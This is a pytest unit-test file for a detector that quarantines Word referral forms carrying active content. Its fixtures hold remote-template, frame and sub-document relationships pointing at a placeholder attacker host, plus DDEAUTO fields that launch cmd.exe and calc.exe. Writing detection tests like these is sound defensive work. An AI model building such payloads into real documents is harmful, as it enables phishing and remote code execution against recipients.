"""Unit tests for `mailbot.ingest.document.active`, through `ooxml.inspect_package`: active content.

Each test takes a genuine form (the official sample, or a generated referral) and adds with
`zipfile` what Word writes for one kind of active content, then reads the private one-line
detail (`ooxml._check`) to prove which check found it. Ordinary links must pass.
"""

from __future__ import annotations

import tracemalloc

import pytest

from mailbot.codes import describe, rule
from mailbot.dispatch.advice import is_return_code
from mailbot.ingest.document import active, ooxml
from mailbot.ingest.document.ooxml import inspect_package
from mailbot.ingest.document.sniff import classify
from mailbot.intake.stages import QUARANTINE, OpenedForm, open_document
from mailbot.models import Attachment, DocumentLimits
from tests import hostile_active
from tests import hostile_corpus as corpus
from tests.hostile_mail import DOCX

LIMITS = DocumentLimits()
ACTIVE = "active_content"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT = "word/document.xml"
FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r>'
    '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
)


def found(data: bytes) -> tuple[str, str] | None:
    return ooxml._check(data, LIMITS)


def relationship(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def with_body(markup: str, part: str = DOCUMENT, encoding: str = "utf-8") -> bytes:
    """The sample form with `markup` first in the body of `part`."""
    base = corpus.base_docx()
    xml = dict(corpus.parts_of(base))[part].decode()
    tag = "<w:body>" if part == DOCUMENT else ">"  # a header's root element: after its tag
    at = xml.index(tag, xml.index("<w:")) + len(tag)
    xml = xml[:at] + markup + xml[at:]
    if encoding != "utf-8":
        xml = xml.replace("encoding='UTF-8'", f"encoding='{encoding.upper()}'", 1)
    return corpus.replace_part(base, part, xml.encode(encoding))


def instruction_runs(*texts: str) -> str:
    return "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in texts)


# -- remote templates and other external relationships ----------------------------------------


@pytest.mark.parametrize(
    ("kind", "target", "expected"),
    [
        (
            "attachedTemplate",
            "http://attacker.invalid/t.dotm",
            "remote template (external attachedtemplate relationship)",
        ),
        (
            "attachedTemplate",
            "\\\\attacker.invalid\\share\\t.dotm",
            "remote template (external attachedtemplate relationship)",
        ),
        (
            "attachedTemplate",
            "file://attacker.invalid/share/t.dotm",
            "remote template (external attachedtemplate relationship)",
        ),
        (
            "frame",
            "https://attacker.invalid/frame.html",
            "remote frame (external frame relationship)",
        ),
        (
            "subDocument",
            "http://attacker.invalid/sub.docx",
            "remote sub-document (external subdocument relationship)",
        ),
        (
            "oleObject",
            "file:///C:/data/risk.xlsx",
            "linked OLE object (external oleobject relationship)",
        ),
    ],
)
def test_external_relationships_that_word_loads(kind: str, target: str, expected: str) -> None:
    """GIVEN the form whose settings relationships point a template, frame, sub-document or
    OLE object at another computer (or, for an object, any file)
    WHEN inspected
    THEN active_content, naming the relationship."""
    data = corpus.add_part(
        corpus.base_docx(), "word/_rels/settings.xml.rels", relationship(kind, target)
    )
    assert found(data) == (ACTIVE, expected)


@pytest.mark.parametrize(
    ("target", "mode"),
    [
        (
            "file:///C:\\Users\\jo\\AppData\\Roaming\\Microsoft\\Templates\\MARAC.dotx",
            ' TargetMode="External"',
        ),
        ("C:/Templates/MARAC.dotx", ' TargetMode="External"'),
        ("http://attacker.invalid/t.dotm", ""),  # internal: a part name, nothing is fetched
    ],
)
def test_a_template_on_the_authors_own_disk_is_accepted(target: str, mode: str) -> None:
    """GIVEN the form recording the template it was made from, on the author's own disk, as
    Word does for forms made from a custom template (or an internal relationship)
    WHEN inspected
    THEN it is safe: nothing is fetched from another computer."""
    data = corpus.add_part(
        corpus.base_docx(),
        "word/_rels/settings.xml.rels",
        relationship("attachedTemplate", target, mode),
    )
    assert found(data) is None


def test_web_and_email_links_are_accepted() -> None:
    """GIVEN a referral with external hyperlinks (web and mailto) and a HYPERLINK field
    WHEN inspected, then opened as a form
    THEN it is safe and read: referral forms carry links."""
    data = hostile_active.external_hyperlinks()
    assert found(data) is None
    assert isinstance(open_document(as_attachment(data), [], LIMITS), OpenedForm)


# -- DDE fields --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "runs",
    [
        (' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ',),
        (" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc.exe"'),  # split
        (
            "   ",
            "  ddeauto cmd.exe ",
        ),  # lower case, after runs of spaces
        (' DDE Excel "C:\\\\x.xlsx" R1C1 ',),
    ],
)
def test_dde_field_in_runs(runs: tuple[str, ...]) -> None:
    """GIVEN a DDE or DDEAUTO field, its instruction in one run or split over several, in any
    case
    WHEN inspected
    THEN active_content: Word joins the runs before it reads the field name."""
    data = with_body(FIELD.format(runs=instruction_runs(*runs)))
    assert found(data) == (ACTIVE, "DDE field")


def test_dde_as_a_simple_field_and_in_a_header() -> None:
    """GIVEN a DDEAUTO simple field (w:fldSimple) in the body, and a DDE field in the header
    WHEN inspected
    THEN active_content both times: every part is looked at, not only the body."""
    simple = (
        '<w:p><w:fldSimple w:instr=" DDEAUTO cmd.exe "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    )
    assert found(with_body(simple)) == (ACTIVE, "DDE field")
    header = with_body(FIELD.format(runs=instruction_runs(" DDE cmd ")), part="word/header1.xml")
    assert found(header) == (ACTIVE, "DDE field")


def test_dde_in_a_utf16_document_is_found() -> None:
    """GIVEN document.xml encoded as UTF-16 holding a DDEAUTO field
    WHEN inspected
    THEN active_content: the hints and the markup are read in the part's own encoding."""
    data = with_body(FIELD.format(runs=instruction_runs(" DDEAUTO cmd ")), encoding="utf-16")
    assert found(data) == (ACTIVE, "DDE field")


@pytest.mark.parametrize(
    "markup",
    [
        "<w:p><w:r><w:t>DDEAUTO DDE dde: words in the text, not a field</w:t></w:r></w:p>",
        FIELD.format(runs=instruction_runs(' HYPERLINK "https://x.invalid/dde" ')),
        FIELD.format(runs=instruction_runs(" FORMTEXT ")),
        FIELD.format(runs=instruction_runs(" PAGE ")) + "<w:p><w:r><w:t>DDE</w:t></w:r></w:p>",
    ],
)
def test_other_fields_and_the_word_dde_in_text_are_accepted(markup: str) -> None:
    """GIVEN the words DDE/DDEAUTO in ordinary text, or fields of other kinds (links, form
    fields, page numbers) even when they mention 'dde'
    WHEN inspected
    THEN it is safe: only the field name decides."""
    assert found(with_body(markup)) is None


# -- OLE objects -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        (
            '<w:p><w:r><w:object w:dxaOrig="1" w:dyaOrig="1"><v:shape id="s1"/></w:object></w:r>'
            "</w:p>",
            "OLE object in the document",
        ),
        (
            '<w:p><w:r><w:pict><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rId99"'
            "/></w:pict></w:r></w:p>",
            "OLE object in the document",
        ),
    ],
)
def test_ole_object_markup(markup: str, expected: str) -> None:
    """GIVEN an object in the document markup (w:object, or an o:OLEObject on its own), with
    no embedded part and no OLE content type
    WHEN inspected
    THEN active_content, found in the markup."""
    assert found(with_body(markup)) == (ACTIVE, expected)


@pytest.mark.parametrize(
    "name",
    ["word/embeddings/oleObject1.bin", "word/embeddings/Object 2.BIN", "word/oleObject9.xml"],
)
def test_embedded_ole_parts(name: str) -> None:
    """GIVEN the form carrying an embedded OLE part (.bin under embeddings, or oleObject*)
    WHEN inspected
    THEN active_content, from the part name alone."""
    data = corpus.add_part(corpus.base_docx(), name, b"\xd0\xcf\x11\xe0" + bytes(60))
    assert found(data) == (ACTIVE, "embedded OLE object part")


def test_ole_object_content_type() -> None:
    """GIVEN content types declaring the OLE object type (no such part)
    WHEN inspected
    THEN active_content."""
    types = dict(corpus.parts_of(corpus.base_docx()))["[Content_Types].xml"]
    extra = (
        b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-'
        b'officedocument.oleObject"/></Types>'
    )
    data = corpus.replace_part(
        corpus.base_docx(), "[Content_Types].xml", types.replace(b"</Types>", extra)
    )
    assert found(data) == (ACTIVE, "OLE object content type")


def test_a_chart_workbook_is_not_an_ole_object() -> None:
    """GIVEN an embedded workbook that is not an OLE container (as Word keeps a chart's data)
    WHEN inspected
    THEN it is safe: only .bin parts and object markup are OLE objects."""
    data = corpus.add_part(
        corpus.base_docx(), "word/embeddings/Microsoft_Excel_Sheet1.xlsx", corpus.minimal_docx()
    )
    assert found(data) is None


def test_macros_win_over_other_active_content() -> None:
    """GIVEN a package with both a VBA project and an embedded OLE object
    WHEN inspected
    THEN macro_content: the better known reason is given."""
    data = corpus.add_part(hostile_active.ole_object(), "word/vbaProject.bin", b"\x00")
    assert found(data) == ("macro_content", "VBA project part")


# -- robustness and bounds ---------------------------------------------------------------------


def test_markup_expat_cannot_parse_is_left_to_the_reader() -> None:
    """GIVEN a part mentioning instrText whose markup is not well-formed (an unbound prefix)
    WHEN inspected
    THEN no exception and no active content: the form reader refuses broken XML itself."""
    data = corpus.add_part(corpus.minimal_docx(), "word/x.xml", b"<q:instrText>DDE cmd")
    assert found(data) is None


def test_too_much_markup_to_check_is_unreadable(monkeypatch: pytest.MonkeyPatch) -> None:
    """GIVEN a form whose parts mentioning fields or objects are over the markup budget
    WHEN inspected
    THEN unreadable: the checks are bounded, and what is not checked is not passed."""
    monkeypatch.setattr(active, "MAX_SCAN_BYTES", 1000)
    data = hostile_active.external_hyperlinks()
    assert found(data) == ("unreadable_document", "too much field and object markup to check")


@pytest.mark.timeout(10)
def test_markup_is_streamed_not_buffered() -> None:
    """GIVEN a 30 MB part that mentions instrText, then holds whitespace
    WHEN inspected (so it is streamed through expat as well)
    THEN peak Python memory stays far below the part size."""
    part = b"<x><instrText>PAGE</instrText>" + b" " * (30 << 20) + b"</x>"
    data = corpus.add_part(corpus.minimal_docx(), "word/big.xml", part)
    limits = DocumentLimits(max_compression_ratio=10_000)
    tracemalloc.start()
    try:
        assert inspect_package(data, limits) is None
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 4 << 20


# -- the reason code ---------------------------------------------------------------------------


def test_active_content_is_explained_returned_and_quarantined() -> None:
    """GIVEN the active_content code
    WHEN a reply is written, an administrator returns a referral, the email is filed
    THEN the reply explains it with its rule, administrators may use it, and the email is
    quarantined in Exceptions like a macro."""
    assert "active content" in describe(ACTIVE)
    assert "DDE" in rule(ACTIVE)
    assert is_return_code(ACTIVE)
    assert ACTIVE in QUARANTINE


def test_pipeline_answers_active_content() -> None:
    """GIVEN a referral attached to an email whose template is fetched from a web server
    WHEN the pipeline opens it
    THEN the answer is active_content, not a form."""
    data = hostile_active.remote_template()
    assert open_document(as_attachment(data), [], LIMITS) == ACTIVE


def as_attachment(data: bytes) -> Attachment:
    return Attachment(filename="referral.docx", content_type=DOCX, data=data, kind=classify(data))


def test_a_form_whose_wording_mentions_objects_is_not_parsed_again(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """GIVEN the official sample form, whose DASH question asks about "weapons or objects"
    WHEN inspected
    THEN its document part is not put through the markup parser (element names are the
    hints, not words), and it passes; an element named object, with or without a prefix,
    still is found."""
    parsed: list[str] = []
    real = active.in_part

    def counting(archive: object, info: object) -> active.Found:
        parsed.append(getattr(info, "filename", ""))
        return real(archive, info)  # type: ignore[arg-type]

    monkeypatch.setattr(active, "in_part", counting)
    form = corpus.base_docx()
    assert b"objects" in dict(corpus.parts_of(form))[DOCUMENT]
    assert found(form) is None
    assert DOCUMENT not in parsed
    unprefixed = '<object xmlns="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    for markup in ('<w:object w:dxaOrig="1"/>', unprefixed):
        assert found(with_body(markup)) == (ACTIVE, "OLE object in the document")
